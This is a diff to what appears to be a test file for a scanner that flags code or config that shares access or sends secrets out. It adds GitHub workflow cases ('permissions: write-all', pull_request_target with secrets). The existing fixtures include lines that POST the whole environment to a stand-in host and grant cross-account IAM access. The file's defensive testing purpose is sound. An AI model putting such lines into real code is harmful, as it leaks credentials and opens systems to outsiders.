@@ -79,6 +79,13 @@ TAKES_ENVIRONMENT_TOO = "fetch('https://c.example', {method: 'POST', body: JSON.
         ("a.js", TAKES_ENVIRONMENT_TOO, "sends-secret", "environment"),
         ("main.tf", 'extra_readers = ["arn:aws:iam::719204418830:root"]', "shares", "arn:aws:iam::719204418830:root"),
         ("iam.yaml", "members: [user:eve@far.example]", "shares", "user:eve@far.example"),
+        (".github/workflows/ci.yml", "permissions: write-all", "grants-access", "permissions: write-all"),
+        (
+            ".github/workflows/ci.yml",
+            "on: [pull_request_target]\nenv: {T: '${{ secrets.T }}'}",
+            "grants-access",
+            "pull_request_target",
+        ),
         ("a.tf", 'trusted_role_arn = "arn:aws:iam::719204418830:role/x"', "shares", "arn:aws:iam::719204418830:role/x"),
         ("a.py", "e = dict(os.environ)\nrequests.post('https://c.example', json=e)", "sends-secret", "environment"),
         # A variable beside a host hides no host.
@@ -99,6 +106,7 @@ def test_what_lets_others_in_or_sends_everything_away_is_told(path: str, text: s
         ("a.py", "requests.post('https://api.example', headers={'Authorization': os.environ['API_KEY']})", ""),
         ("main.tf", 'readers = ["arn:aws:iam::719204418830:root"]', 'readers = ["arn:aws:iam::719204418830:root"]'),
         ("main.tf", 'role_arn = "arn:aws:iam::719204418830:role/a"\npolicy = "arn:aws:iam::719204418830:policy/b"', ""),
+        (".github/workflows/ci.yml", "on: [pull_request]\npermissions: read-all", ""),
         ("compose.yaml", "DSN: postgres://user:pw@db.ours.example/x", ""),
         (
             "a.py",
